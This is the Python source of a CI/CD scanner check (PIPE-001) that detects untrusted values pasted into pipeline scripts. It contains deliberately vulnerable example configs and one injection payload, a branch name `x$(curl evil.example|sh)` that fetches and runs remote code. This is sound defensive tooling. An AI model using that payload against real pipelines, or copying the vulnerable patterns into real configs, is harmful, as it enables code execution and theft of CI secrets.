"""Text that an outsider chose, pasted into a script before the script is run."""

import re
from collections.abc import Iterator, Sequence
from dataclasses import replace

from bartizan.model import Check, Example, Profile, Severity
from bartizan.scan.match import Match, ProposedFix
from bartizan.scan.pipelines.environment_fix import through_environment
from bartizan.scan.pipelines.places import expressions_at
from bartizan.scan.pipelines.privilege import privileged, reach
from bartizan.scan.pipelines.subject import (
    Expression,
    Job,
    Kind,
    Origin,
    Pipeline,
    Platform,
    Script,
    Step,
    Trust,
)

CHECK = Check(
    id="PIPE-001",
    slug="script-injection",
    title="Expression is pasted into a script before it runs",
    severity=Severity.HIGH,
    what="""
Expressions that the platform replaces *before* a script runs, and whose value somebody without write access chooses: the title or text of a pull request
or issue, a comment, a branch name, a commit message, a person's display name. Found in shell scripts and in inputs that are programs, such as the script of
`actions/github-script`.
""",
    why="""
The value becomes part of the program. A branch called `x$(curl evil.example|sh)`, or a title with a quote and a semicolon in it, runs commands in the job,
with its secrets, its token and whatever the job publishes.

Quoting around the expression does not help, because the value can hold the closing quote. Removing characters from it rarely does.
""",
    fix="""
Hand the value over in an environment variable of the step and expand that variable, in double quotes, in the script: then it stays data.

`bartizan` offers the edit where script and quoting are plain enough to make it by rule.
""",
    cwe=(94, 78),
    attack=("T1059", "T1677"),
    controls=("owasp-cicd:CICD-SEC-4", "ssdf:PW.5.1", "nist-800-53:SI-10", "soc2:CC8.1"),
    references=(
        "https://docs.github.com/en/actions/concepts/security/script-injections",
        "https://docs.gitlab.com/ci/inputs/",
    ),
    upstream=("zizmor:template-injection",),
    bad=(
        Example(
            ".github/workflows/greet.yml",
            """\
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
""",
        ),
        Example(
            "azure-pipelines.yml",
            """\
pr: [main]
pool:
  vmImage: ubuntu-24.04
steps:
  - bash: echo "Building $(Build.SourceVersionMessage)"
""",
        ),
        Example(
            ".circleci/config.yml",
            """\
version: 2.1
jobs:
  build:
    docker:
      - image: cimg/base:2025.01
    steps:
      - run: echo "branch << pipeline.git.branch >>"
workflows:
  main:
    jobs:
      - build
""",
        ),
        Example(
            "Jenkinsfile",
            """\
pipeline {
  agent any
  stages {
    stage('notify') {
      steps {
        sh "echo Pull request ${env.CHANGE_TITLE} opened"
      }
    }
  }
}
""",
        ),
        Example(
            ".tekton/pull.yaml",
            """\
apiVersion: tekton.dev/v1
kind: PipelineRun
metadata:
  name: lint
  annotations:
    pipelinesascode.tekton.dev/on-event: "[pull_request]"
spec:
  pipelineSpec:
    tasks:
      - name: say
        taskSpec:
          steps:
            - name: say
              image: docker.io/library/alpine:3.22
              script: |
                echo "{{ body.pull_request.title }}"
""",
        ),
    ),
    good=(
        Example(
            ".github/workflows/greet.yml",
            """\
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "New issue $TITLE"
""",
        ),
        Example(
            "azure-pipelines.yml",
            """\
pr: [main]
pool:
  vmImage: ubuntu-24.04
steps:
  - bash: echo "Building $BUILD_SOURCEVERSIONMESSAGE as $(Build.BuildId)"
""",
        ),
        Example(
            ".circleci/config.yml",
            """\
version: 2.1
jobs:
  build:
    docker:
      - image: cimg/base:2025.01
    steps:
      - run: echo "branch $CIRCLE_BRANCH"
workflows:
  main:
    jobs:
      - build
""",
        ),
        Example(
            "Jenkinsfile",
            """\
pipeline {
  agent any
  stages {
    stage('notify') {
      steps {
        sh 'echo "Pull request $CHANGE_TITLE opened"'
      }
    }
  }
}
""",
        ),
        Example(
            ".gitlab-ci.yml",
            'say:\n  script:\n    - echo "$CI_MERGE_REQUEST_TITLE"\n',
        ),
    ),
)

_FIXED = re.compile(
    r"^github\.(?:.{0,300}[._](?:url|sha|id|number|attempt|at|login|count|actor|repository|owner)|.{0,300}\.full_name"
    r"|actor|sha|event_name|job|workspace|token|server_url|repository|repository_owner)$"
)
"""Values whose form the platform fixes, so that they hold nothing that a script would run."""
_LANGUAGES = {"javascript": "JavaScript", "python": "Python", "pwsh": "PowerShell", "cmd": "batch"}


def find(pipeline: Pipeline) -> Iterator[Match]:
    """Untrusted expressions in scripts."""
    seen = set()
    for job, step in pipeline.steps():
        for script in step.scripts:
            for expression in script.expressions:
                if expression.origin is not Origin.UNTRUSTED or expression.span in seen:
                    continue
                seen.add(expression.span)
                literal = script.language == "javascript" and _is_json(script, step, expression)
                language = _LANGUAGES.get(script.language, "shell")
                yield Match(
                    span=expression.span,
                    message=f"`{expression.source}` is pasted into a {language} script "
                    f"that can reach {reach(pipeline, job).words}",
                    anchor=expression.source,
                    scope=pipeline.scope(job, step),
                    annotation="an outsider chooses this value, and with it what the script does",
                    severity=Severity.LOW if literal else _severity(pipeline, job),
                    profile=Profile.PEDANTIC if literal else Profile.REGULAR,
                )


def judge(pipeline: Pipeline, match: Match) -> Match:
    """The embedded engine's match, as grave as the person who chooses the value is far away."""
    found = expressions_at(pipeline, match.span)
    said = match.severity or Severity.HIGH
    if not found or any(expression.origin is Origin.UNTRUSTED for expression in found):
        return match
    worst = max(_chooser(pipeline, expression) for expression in found)
    if worst is Severity.INFO:
        return replace(match, severity=Severity.INFO, profile=Profile.PEDANTIC)
    return replace(match, severity=min(said, worst))


def _chooser(pipeline: Pipeline, expression: Expression) -> Severity:
    """By who chooses the value: nobody, people who can write, the caller, an earlier step."""
    contexts = expression.contexts
    if contexts and all(_FIXED.search(path) for path in contexts):
        return Severity.INFO
    if expression.origin is Origin.TRUSTED and not any(p.startswith("github.") for p in contexts):
        return Severity.INFO
    called = pipeline.kind is not Kind.PIPELINE or any(
        trigger.name == "workflow_call" for trigger in pipeline.triggers
    )
    if called and any(path.startswith("inputs") for path in contexts):
        return Severity.MEDIUM
    return Severity.LOW


def fixes(pipeline: Pipeline, match: Match) -> Sequence[ProposedFix]:
    """Hand the value over in an environment variable."""
    return through_environment(pipeline, match.span)


def _is_json(script: Script, step: Step, expression: Expression) -> bool:
    """Whether JavaScript gets a whole JSON value, which cannot leave its place."""
    before = script.text.value[: expression.start].rstrip()[-1:]
    made = expression.source.lower().startswith(("tojson(", "steps.")) and bool(step.uses)
    return made and before in ("=", "(", ",", ":") and before != ""


def _severity(pipeline: Pipeline, job: Job) -> Severity:
    if privileged(pipeline):
        return max(reach(pipeline, job).severity, Severity.HIGH)
    if pipeline.trust is Trust.OUTSIDER or pipeline.platform is Platform.JENKINS:
        return Severity.HIGH
    return Severity.MEDIUM
